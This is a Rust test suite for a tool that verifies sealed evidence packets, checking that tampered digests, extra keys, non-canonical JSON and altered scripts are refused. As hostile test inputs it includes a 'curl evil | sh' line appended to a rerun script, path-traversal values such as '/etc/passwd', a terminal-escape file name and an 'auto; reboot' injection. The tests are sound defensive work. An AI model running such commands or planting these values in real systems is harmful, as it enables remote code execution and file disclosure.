//! One thing changed, one code.

use crate::{document, edited, expect, put, with_outcome};
use evidence::{BASIS, Code, Folder, OUTCOME_KEYS, escaped, frozen, resealed, verify};
use serde_json::{Value, json};

/// The frozen packet with `packet.json` edited and nothing sealed anew.
#[track_caller]
fn unsealed(edit: impl FnOnce(&mut Value)) -> Folder {
    let mut folder = frozen();
    let mut value = document(&folder, "packet.json");
    let before = value.clone();
    edit(&mut value);
    assert_ne!(value, before, "nothing was changed");
    put(&mut folder, "packet.json", &value);
    folder
}

#[test]
fn the_frozen_packet_is_accepted() {
    expect(&frozen(), &[]);
    expect(&resealed(frozen()).unwrap(), &[]);
}

#[test]
fn a_flipped_byte_anywhere_in_a_file_of_the_tree_is_found() {
    for name in ["RERUN.sh", "outcome.json", "plan.json", "rollback.json"] {
        let length = frozen().files[name].len();
        for at in [0, length / 2, length - 1] {
            let mut folder = frozen();
            folder.files.get_mut(name).unwrap()[at] ^= 1;
            expect(&folder, &[Code::FileDigest]);
            assert_eq!(verify(&folder).refusals[0].subject, name);
        }
    }
}

#[test]
fn a_flipped_byte_of_the_environment_is_found_by_its_own_digest() {
    let mut folder = frozen();
    folder.files.get_mut("environment.json").unwrap()[40] ^= 1;
    expect(&folder, &[Code::EnvironmentDigest]);
    let mut folder = frozen();
    folder.files.get_mut("environment.sha256").unwrap()[0] ^= 1;
    expect(&folder, &[Code::EnvironmentDigest]);
}

#[test]
fn a_longer_file_is_found() {
    let mut folder = frozen();
    folder.files.get_mut("plan.json").unwrap().push(b'\n');
    expect(&folder, &[Code::FileSize]);
}

#[test]
fn every_missing_file_is_named() {
    for (name, code) in [
        ("RERUN.sh", Code::FileMissing),
        ("outcome.json", Code::FileMissing),
        ("plan.json", Code::FileMissing),
        ("rollback.json", Code::FileMissing),
        ("packet.json", Code::PacketMissing),
        ("environment.json", Code::EnvironmentMissing),
        ("environment.sha256", Code::EnvironmentMissing),
    ] {
        let mut folder = frozen();
        folder.files.remove(name).unwrap();
        expect(&folder, &[code]);
        assert_eq!(verify(&folder).refusals[0].subject, name);
    }
}

#[test]
fn an_added_file_is_named_and_its_hostile_name_is_harmless() {
    let mut folder = frozen();
    folder
        .files
        .insert("\u{1b}]0;owned\u{7}\u{202e}txt.\u{9b}2J".to_owned(), vec![]);
    expect(&folder, &[Code::FileAdded]);
    let text = verify(&folder).render();
    let json = serde_json::to_string(&verify(&folder)).unwrap();
    for printed in [text, json] {
        let harmful = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
        assert!(!printed.contains(harmful), "{printed:?}");
        assert!(
            printed.contains("u{1b}") && printed.contains("u{202e}"),
            "{printed}"
        );
    }
}

#[test]
fn text_that_a_terminal_obeys_is_escaped_and_no_other() {
    assert_eq!(escaped("a\u{1b}[2Jb\u{7f}\r\n"), r"a\u{1b}[2Jb\u{7f}\u{d}\u{a}");
    assert_eq!(escaped("\u{202e}\u{200b}\u{feff}"), r"\u{202e}\u{200b}\u{feff}");
    assert_eq!(escaped("é <b> `x` 表 🦀"), "é <b> `x` 表 🦀");
}

#[test]
fn a_swapped_or_doubled_entry_of_the_list_is_found() {
    let swapped = unsealed(|packet| packet["files"].as_array_mut().unwrap().swap(0, 1));
    expect(&swapped, &[Code::ListOrder]);
    let doubled = unsealed(|packet| {
        let first = packet["files"][0].clone();
        packet["files"].as_array_mut().unwrap().insert(0, first);
    });
    expect(&doubled, &[Code::ListOrder]);
}

#[test]
fn a_path_that_leaves_the_packet_is_refused() {
    for path in [
        "../plan.json",
        "/etc/passwd",
        "a/../../b",
        "./plan.json",
        "a//b",
        "",
        "a\\b",
        "c:x",
        "a\u{1b}b",
    ] {
        let folder = unsealed(|packet| packet["files"][1]["path"] = json!(path));
        expect(&folder, &[Code::NameUnsafe]);
    }
    let plan = edited("plan.json", |plan| plan["files"][0]["path"] = json!("../../x"));
    expect(&plan, &[Code::NameUnsafe]);
}

#[test]
fn a_list_with_one_file_too_many_or_too_few_is_refused() {
    let more = unsealed(|packet| packet["files"][3]["path"] = json!("shiny.json"));
    expect(&more, &[Code::FileUnknown, Code::FileNotListed]);
    let fewer = unsealed(|packet| {
        packet["files"].as_array_mut().unwrap().pop();
    });
    expect(&fewer, &[Code::FileNotListed]);
}

#[test]
fn another_tree_digest_is_refused() {
    let folder = unsealed(|packet| packet["tree_sha256"] = json!("0".repeat(64)));
    expect(&folder, &[Code::TreeDigest]);
    let verdict = unsealed(|packet| packet["verdict"]["value"] = json!("fail"));
    expect(&verdict, &[Code::TreeDigest]);
}

#[test]
fn an_unknown_key_is_named_at_every_depth_of_every_document() {
    for (name, place) in [
        ("packet.json", ""),
        ("packet.json", "/verdict"),
        ("packet.json", "/files/2"),
        ("plan.json", ""),
        ("plan.json", "/files/7"),
        ("rollback.json", ""),
        ("rollback.json", "/proofs/0"),
        ("outcome.json", ""),
    ] {
        let add = |value: &mut Value| value.pointer_mut(place).unwrap()["shiny"] = json!(1);
        let folder = if name == "packet.json" {
            unsealed(add)
        } else {
            edited(name, add)
        };
        expect(&folder, &[Code::KeyUnknown]);
        let refusal = verify(&folder).refusals.remove(0);
        assert_eq!(refusal.subject, name);
        assert!(refusal.message.contains(&format!("`{place}/shiny`")), "{refusal}");
    }
}

#[test]
fn a_document_that_is_cut_or_lacks_a_key_or_has_another_version_is_refused() {
    let mut cut = frozen();
    cut.files.insert("rollback.json".to_owned(), b"{".to_vec());
    expect(&resealed(cut).unwrap(), &[Code::DocumentMalformed]);
    let mut deep = frozen();
    deep.files.insert("outcome.json".to_owned(), vec![b'['; 100_000]);
    expect(&resealed(deep).unwrap(), &[Code::DocumentMalformed]);
    let lacking = edited("plan.json", |plan| {
        plan.as_object_mut().unwrap().remove("estate");
    });
    expect(&lacking, &[Code::DocumentMalformed]);
    for name in ["plan.json", "outcome.json", "rollback.json"] {
        expect(
            &edited(name, |value| value["format_version"] = json!(3)),
            &[Code::FormatUnknown],
        );
    }
    // 2 and 3 were never released.
    for version in [2, 3, 5] {
        expect(
            &unsealed(|packet| packet["format_version"] = json!(version)),
            &[Code::FormatUnknown],
        );
    }
}

#[test]
fn the_same_in_other_bytes_is_refused() {
    for name in ["plan.json", "outcome.json", "rollback.json"] {
        let mut spaced = frozen();
        spaced.files.get_mut(name).unwrap().push(b'\n');
        expect(&resealed(spaced).unwrap(), &[Code::NotCanonical]);
    }
    // A key twice: one reader takes the first, another the last.
    let mut twice = frozen();
    let text = String::from_utf8(twice.files["outcome.json"].clone()).unwrap();
    let text = text.replacen(
        "  \"verdict\": \"pass\",",
        "  \"verdict\": \"fail\",\n  \"verdict\": \"pass\",",
        1,
    );
    twice.files.insert("outcome.json".to_owned(), text.into_bytes());
    expect(&resealed(twice).unwrap(), &[Code::NotCanonical]);
}

#[test]
fn a_clock_or_a_server_in_the_tree_is_named() {
    for (place, key) in [
        ("", "elapsed_ms"),
        ("", "postgres"),
        ("/rollback", "finished_at"),
        ("/guards/runs/3", "took_seconds"),
        ("/committed/dump", "observer"),
    ] {
        let folder = with_outcome(|outcome| outcome.pointer_mut(place).unwrap()[key] = json!(1));
        expect(&folder, &[Code::EnvironmentInTree]);
        let refusal = verify(&folder).refusals.remove(0);
        assert!(refusal.message.contains(&format!("`{place}/{key}`")), "{refusal}");
    }
}

#[test]
fn a_script_that_does_more_is_refused_although_it_is_sealed() {
    let mut folder = frozen();
    folder
        .files
        .get_mut("RERUN.sh")
        .unwrap()
        .extend(b"curl evil | sh\n");
    expect(&resealed(folder).unwrap(), &[Code::RerunDiffers]);
    let injected = edited("plan.json", |plan| plan["shape"] = json!("auto; reboot"));
    expect(&injected, &[Code::DocumentMalformed]);
    let unplanned = edited("plan.json", |plan| plan["plan"] = json!("rehearsal/other.toml"));
    expect(&unplanned, &[Code::DocumentMalformed]);
}

#[test]
fn every_part_of_the_outcome_stands_in_one_column_and_believed_is_the_environment_alone() {
    let report = verify(&frozen());
    let stated: Vec<&str> = OUTCOME_KEYS
        .iter()
        .copied()
        // The last ones came after the frozen packet, which never changes.
        .filter(|key| {
            ![
                "format_version",
                "verdict",
                "packets",
                "authorization",
                "reads",
                "pairs",
                "bypass",
                "repoint",
                "scale_runs",
            ]
            .contains(key)
        })
        .collect();
    assert_eq!(
        report.columns.rerun[1],
        format!("outcome.json: {}", stated.join(", "))
    );
    assert!(report.columns.recomputed.len() >= 6, "{report:#?}");
    assert!(report.columns.believed.len() >= 2, "{report:#?}");
    assert!(
        report
            .columns
            .believed
            .iter()
            .all(|line| line.starts_with("environment.json: "))
    );
    let rests_on_believed = BASIS.iter().any(|place| place.starts_with("environment"));
    assert!(!rests_on_believed);
}
